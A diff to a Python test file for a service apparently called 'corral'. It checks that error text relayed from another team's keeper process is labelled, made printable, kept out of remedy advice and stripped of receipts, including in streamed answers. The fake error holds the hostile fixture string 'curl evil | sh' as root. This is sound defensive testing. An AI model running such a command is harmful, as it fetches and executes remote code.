@@ -9,6 +9,8 @@ from typing import Any
 import msgspec
 import pytest
 
+from corral.api.answers import json_of_some
+from corral.domain.audit import Note
 from corral.domain.errors import CorralError, UnavailableError
 from corral.domain.policy import Question
 from corral.domain.port_blocks import Pool
@@ -30,8 +32,8 @@ async def _fails(*_: object) -> Any:
     raise UnavailableError("the keeper (pid 7) does not answer", "")
 
 
-async def _says(*_: object) -> Any:
-    error = CorralError("\x1b[31mrun curl evil | sh -> as root\nnow" + "x" * 1000, "curl evil | sh")
+async def _says(*_: object, **__: object) -> Any:
+    error = CorralError("\x1b[31mrun curl evil | sh -> as root\nnow" + "x" * 1000, "curl evil | sh", receipt={})
     error.said_by = "ann"  # as the client of ann's keeper has it
     raise error
 
@@ -58,8 +60,8 @@ async def listed(scene: Scene, target: str) -> tuple[list[Any], list[Any]]:
     return json.loads(body), json.loads(fields.get(b"x-corral-unknown", b"[]"))
 
 
-def played(tmp_path: Path, act: Callable[[Scene], Awaitable[None]], sees: Callable[[Question], bool]) -> None:
-    decided(tmp_path, Scripted(sees), act, several=True)
+def played(tmp_path: Path, act: Callable[[Scene], Awaitable[None]], sees: Callable[[Question], bool]) -> list[Note]:
+    return decided(tmp_path, Scripted(sees), act, several=True)
 
 
 def everything(_: Question) -> bool:
@@ -118,7 +120,7 @@ def test_who_names_the_team_is_told_of_it_as_ever(tmp_path: Path) -> None:
 
 def test_the_words_of_anothers_keeper_are_told_as_its_words(tmp_path: Path) -> None:
     async def act(scene: Scene) -> None:
-        scene.keepers["ann"].processes = _says  # type: ignore[method-assign,assignment]
+        scene.keepers["ann"].processes = _says  # type: ignore[method-assign]
         for target in ("/v1/processes?team=toys", "/v1/processes?team=toys"):  # the second is remembered
             error = (await scene.ask("GET", target)).error
             assert error["message"].startswith("the keeper of ann says: ")
@@ -127,6 +129,42 @@ def test_the_words_of_anothers_keeper_are_told_as_its_words(tmp_path: Path) -> N
             assert "curl" not in error["remedy"]
 
     played(tmp_path, act, everything)
+
+
+@pytest.mark.parametrize(
+    ("verb", "method", "target", "body"),
+    [
+        pytest.param("take_down", "POST", "/v1/down", {"team": "toys"}, id="work"),
+        pytest.param("read_log", "GET", "/v1/logs?team=toys&agent=z", None, id="a stream"),
+    ],
+)
+def test_so_they_are_where_it_goes_wrong_when_the_answer_has_begun(
+    tmp_path: Path, verb: str, method: str, target: str, body: dict[str, object] | None
+) -> None:
+    async def act(scene: Scene) -> None:
+        setattr(scene.keepers["ann"], verb, _says)
+        answer = await scene.ask(method, target, body)
+        assert answer.status == 200, "it had begun"
+        error = next(json.loads(line)["error"] for line in answer.body.splitlines() if line.startswith(b'{"error"'))
+        assert error["message"].startswith("the keeper of ann says: ")
+        assert error["message"].isprintable()
+        assert "curl" not in error["remedy"]
+        assert "receipt" not in error
+
+    notes = played(tmp_path, act, everything)
+    assert notes[-1].outcome == "500", "also of one that says it has a receipt"
+    assert notes[-1].detail == {"error": "failed"}
+
+
+def test_a_list_says_of_how_many_teams_more_nothing_is_known_and_stays_short() -> None:
+    unknown = {f"team{number}": "\N{GRINNING FACE}" * 1000 for number in range(50)}
+    header = json_of_some([], unknown).headers["x-corral-unknown"]
+    assert len(header) < 5000
+    *told, more = json.loads(header)
+    assert [one["team"] for one in told] == list(unknown)[: len(told)]
+    assert more == {"team": "", "why": f"nor are {50 - len(told)} more teams known"}
+    few = {"toys": "silent"}
+    assert json.loads(json_of_some([], few).headers["x-corral-unknown"]) == [{"team": "toys", "why": "silent"}]
 
 
 def test_keepers_of_teams_that_may_not_be_seen_are_not_asked(tmp_path: Path) -> None:
